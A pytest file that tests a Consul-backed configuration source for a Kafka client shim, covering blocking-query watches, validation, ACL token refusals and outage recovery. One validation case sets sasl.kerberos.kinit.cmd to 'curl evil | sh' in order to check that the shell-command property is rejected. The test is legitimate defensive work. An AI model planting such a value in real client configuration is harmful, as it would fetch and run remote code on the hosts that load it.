"""consul:// source, driven by the real py-consul client against the Consul double (or a real Consul when
CONSUL_HTTP_ADDR is set): key layout, blocking-query watch, validation and last-known-good, outages."""

from __future__ import annotations

import json
import logging
import re
import time

import pytest

from kafkashim.errors import (
    ConfigurationError,
    ForbiddenPropertyError,
    InvalidDocumentError,
    SourceAccessDeniedError,
    SourceUnavailableError,
    UnknownClusterError,
)
from tests.planes import follow, start, wait_until
from tests.stores import ConsulKit, ConsulStore, acl_enabled, needs_double

A = {"bootstrap.servers": "kafka-a:9092"}
B = {
    "bootstrap.servers": "kafka-b:9092",
    "security.protocol": "SASL_SSL",
    "sasl.mechanisms": "PLAIN",
    "sasl.username": "api-key",
    "sasl.password": "api-secret",
}


def test_the_document_is_assembled_from_the_prefix_and_the_epoch_is_the_modify_index_of_active(
    consul_kit: ConsulKit,
) -> None:
    consul_kit.write("a", {"a": A, "b": B})
    _, entry = consul_kit.sre.kv.get(f"{consul_kit.prefix}/active")
    with follow(consul_kit.url) as f:
        assert f.current.active == "a"
        assert f.current.epoch == entry["ModifyIndex"]
        assert dict(f.current.clusters["b"].properties) == B
        assert f.current.source == consul_kit.url


def test_settings_may_set_the_epoch(consul_kit: ConsulKit) -> None:
    consul_kit.write("a", {"a": A})
    consul_kit.sre.kv.put(f"{consul_kit.prefix}/settings", json.dumps({"epoch": 42}))
    with follow(consul_kit.url) as f:
        assert f.current.epoch == 42


def test_an_sre_flip_reaches_the_plane_through_a_blocking_query_not_polling(
    consul_kit: ConsulKit, consul_store: ConsulStore
) -> None:
    consul_kit.write("a", {"a": A, "b": B})
    with follow(consul_kit.url) as f:
        time.sleep(1.0)  # idle: a poller would have sent dozens of requests by now
        if consul_store.double is not None:
            queries = consul_store.double.blocking_queries(f"/v1/kv/{consul_kit.prefix}/")
            assert queries <= 2, f"{queries} queries in one idle second: the watch must block, not poll"
        consul_kit.flip("b")
        doc = f.wait_for(lambda d: d.active == "b")
        _, entry = consul_kit.sre.kv.get(f"{consul_kit.prefix}/active")
        assert doc.epoch == entry["ModifyIndex"]
        assert [d.active for d in f.docs] == ["b"]


def test_rewriting_the_same_value_is_not_a_change(consul_kit: ConsulKit) -> None:
    consul_kit.write("a", {"a": A, "b": B})
    with follow(consul_kit.url) as f:
        consul_kit.flip("a")
        consul_kit.put_profiles({"b": B})
        time.sleep(0.5)
        assert f.docs == []
        consul_kit.flip("b")
        f.wait_for(lambda d: d.active == "b")
        assert len(f.docs) == 1


def test_a_flapping_key_is_coalesced_and_ends_on_its_last_value(consul_kit: ConsulKit) -> None:
    consul_kit.write("a", {"a": A, "b": B})
    with follow(consul_kit.url, source_debounce_ms=300) as f:
        for i in range(20):
            consul_kit.flip("b" if i % 2 == 0 else "a")
        consul_kit.flip("b")  # 21 writes in quick succession, ending on b
        f.wait_for(lambda d: d.active == "b")
        time.sleep(0.6)
        assert f.current.active == "b"
        assert 1 <= len(f.docs) <= 3, [d.active for d in f.docs]


@pytest.mark.parametrize(
    ("key", "value", "error", "message"),
    [
        ("clusters/b", "{garbage", InvalidDocumentError, r"Consul key .*/clusters/b is not valid JSON"),
        ("clusters/b", '["a", "list"]', InvalidDocumentError, r"clusters/b must hold a JSON object, got list"),
        ("active", "c", UnknownClusterError, r"active='c' is not defined under clusters"),
        (
            "clusters/b",
            json.dumps({**B, "sasl.kerberos.kinit.cmd": "curl evil | sh"}),
            ForbiddenPropertyError,
            r"clusters\.b\.sasl\.kerberos\.kinit\.cmd may not be set.*shell command.*Consul key .*/clusters/b",
        ),
        ("clusters/b", json.dumps({"bootstrap.servers": ""}), InvalidDocumentError, r"bootstrap\.servers must be"),
        ("cluster/b", json.dumps(B), InvalidDocumentError, r"cluster/b is not part of the layout"),
        ("settings", json.dumps({"active": "b"}), InvalidDocumentError, r"belongs in its own key"),
        (
            "clusters/b",
            json.dumps({**B, "sasl.password": "${nope:x}"}),
            InvalidDocumentError,
            r"unknown scheme 'nope'",
        ),
    ],
)
def test_a_bad_change_is_rejected_logged_once_and_the_next_good_one_applies(
    consul_kit: ConsulKit,
    caplog: pytest.LogCaptureFixture,
    key: str,
    value: str,
    error: type[Exception],
    message: str,
) -> None:
    consul_kit.write("a", {"a": A, "b": B})
    with follow(consul_kit.url) as f, caplog.at_level(logging.ERROR, logger="kafkashim"):
        consul_kit.sre.kv.put(f"{consul_kit.prefix}/{key}", value)
        wait_until(lambda: any("kafkashim" in r.name for r in caplog.records), what="the rejection to be logged")
        time.sleep(0.3)
        lines = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
        assert len(lines) == 1, lines
        assert re.search(message, lines[0]), lines[0]
        assert f.current.active == "a" and f.docs == []
        # the operator fixes it; the next good document applies normally
        consul_kit.sre.kv.delete(f"{consul_kit.prefix}/", recurse=True)
        consul_kit.write("b", {"a": A, "b": B})
        f.wait_for(lambda d: d.active == "b")


@pytest.mark.parametrize(
    ("setup", "error", "message"),
    [
        (lambda kit: None, SourceUnavailableError, r"no keys under kafkashim-test/.*; write .*/active"),
        (
            lambda kit: kit.put_profiles({"a": A}),
            InvalidDocumentError,
            r"active is missing; set it with: consul kv put",
        ),
        (lambda kit: kit.flip("a"), InvalidDocumentError, r"has no profiles"),
    ],
)
def test_an_incomplete_prefix_fails_the_start_with_the_command_that_fixes_it(
    consul_kit: ConsulKit, setup: object, error: type[Exception], message: str
) -> None:
    setup(consul_kit)  # type: ignore[operator]
    with pytest.raises(error, match=message):
        start(consul_kit.url)


def test_a_token_without_permission_fails_at_start_without_waiting(
    consul_kit: ConsulKit, consul_store: ConsulStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not acl_enabled(consul_store):
        pytest.skip("this Consul runs without ACLs: it ignores tokens, so none is refused")
    consul_kit.write("a", {"a": A})
    monkeypatch.setenv("CONSUL_HTTP_TOKEN", "00000000-dead-beef-0000-000000000000")
    started = time.monotonic()
    with pytest.raises(SourceAccessDeniedError, match=r"refused to read .*ACL not found|Permission denied"):
        start(consul_kit.url, source_startup_timeout_ms=10_000)
    assert time.monotonic() - started < 5  # refused at once, not after the start-up wait


def test_a_read_only_token_limited_to_the_prefix_is_enough(
    consul_kit: ConsulKit, consul_store: ConsulStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    double = needs_double(consul_store)
    consul_kit.write("a", {"a": A})
    monkeypatch.setenv("CONSUL_HTTP_TOKEN", double.add_token({f"{consul_kit.prefix}/": "read"}))
    with follow(consul_kit.url) as f:
        assert f.current.active == "a"
    monkeypatch.setenv("CONSUL_HTTP_TOKEN", double.add_token({"somewhere-else/": "read"}))
    # A real Consul filters a recursive read instead of refusing it: 404 + X-Consul-Results-Filtered-By-Acls.
    with pytest.raises(SourceAccessDeniedError, match=r"Filtered-By-Acls: true"), follow(consul_kit.url):
        pass


def test_a_token_that_may_not_read_the_prefix_fails_at_once_though_consul_answers_404(
    consul_kit: ConsulKit, consul_store: ConsulStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Consul 1.16 (built from source): a recursive read the token may not make is 404 with
    # X-Consul-Results-Filtered-By-Acls: true, not 403; read as "no keys yet" it waited out the start-up timeout.
    double = needs_double(consul_store)  # a token limited to another prefix needs the ACL API on a real server
    consul_kit.write("a", {"a": A})
    monkeypatch.setenv("CONSUL_HTTP_TOKEN", double.add_token({"somewhere-else/": "read"}))
    started = time.monotonic()
    with pytest.raises(SourceAccessDeniedError, match=r"refused to read .*Filtered-By-Acls: true"):
        start(consul_kit.url, source_startup_timeout_ms=10_000)
    assert time.monotonic() - started < 5


def test_a_token_that_sees_only_part_of_the_prefix_is_refused_not_given_half_a_document(
    consul_kit: ConsulKit, consul_store: ConsulStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    double = needs_double(consul_store)
    consul_kit.write("a", {"a": A, "b": B})
    monkeypatch.setenv("CONSUL_HTTP_TOKEN", double.add_token({f"{consul_kit.prefix}/active": "read"}))
    with pytest.raises(SourceAccessDeniedError, match=r"HTTP 200 with X-Consul-Results-Filtered-By-Acls"):
        start(consul_kit.url)


def test_after_a_snapshot_restore_the_lower_index_is_read_at_once_not_after_a_whole_wait(
    consul_kit: ConsulKit, consul_store: ConsulStore
) -> None:
    # Consul 1.16: after a restore the pending blocking query returned early still carrying the old index,
    # and the next one blocked for the whole wait before the lower index appeared.
    double = needs_double(consul_store)
    consul_kit.write("a", {"a": A, "b": B})
    saved = double.snapshot()
    consul_kit.flip("b")
    with follow(consul_kit.url, source_wait_ms=60_000) as f:
        assert f.current.active == "b"
        time.sleep(0.3)  # the watcher is in its blocking query
        double.restore(saved)
        f.wait_for(lambda d: d.active == "a", timeout_s=5)


def test_consul_down_at_start_fails_after_the_bounded_wait() -> None:
    from testkit.kafka import free_port

    url = f"consul://127.0.0.1:{free_port()}/kafkashim/prod"
    started = time.monotonic()
    with pytest.raises(SourceUnavailableError, match=r"cannot reach Consul.*startup\.timeout\.ms=700"):
        start(url, source_startup_timeout_ms=700)
    assert 0.7 <= time.monotonic() - started < 5


def test_consul_down_mid_run_keeps_the_document_reports_once_backs_off_and_recovers(
    consul_kit: ConsulKit, consul_store: ConsulStore, caplog: pytest.LogCaptureFixture
) -> None:
    double = needs_double(consul_store)
    consul_kit.write("a", {"a": A, "b": B})

    def own_errors() -> list[str]:
        # Only this source's: a plane another test left running on the same Consul double logs too.
        messages = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
        return [m for m in messages if consul_kit.url in m]

    with follow(consul_kit.url, source_backoff_max_ms=400) as f, caplog.at_level(logging.ERROR, logger="kafkashim"):
        time.sleep(0.2)
        double.stop()
        try:
            time.sleep(2.0)
            assert f.current.active == "a"
            errors = own_errors()
            assert len(errors) == 1 and "cannot reach Consul" in errors[0], errors
        finally:
            double.start()
        time.sleep(1.0)  # the watch is back on a blocking query; nothing changed meanwhile
        double.stop()  # a second outage: news again, logged again
        try:
            wait_until(lambda: len(own_errors()) == 2, 10)
        finally:
            double.start()
        consul_kit.flip("b")
        f.wait_for(lambda d: d.active == "b", timeout_s=10)


@pytest.mark.parametrize(
    "url",
    ["consul://user:pw@127.0.0.1:8500/kafkashim/prod", "consul://127.0.0.1:8500/", "consul://127.0.0.1:8500/a/../b"],
)
def test_malformed_consul_urls_are_configuration_errors(url: str) -> None:
    with pytest.raises(ConfigurationError, match=r"kafkashim\.source"):
        start(url)


def test_consul_url_without_host_takes_consul_http_addr(consul_kit: ConsulKit, monkeypatch: pytest.MonkeyPatch) -> None:
    consul_kit.write("a", {"a": A})
    monkeypatch.setenv("CONSUL_HTTP_ADDR", f"http://{consul_kit.store.address}")
    with follow(f"consul:///{consul_kit.prefix}") as f:
        assert f.current.active == "a"
        assert f.current.source == consul_kit.url
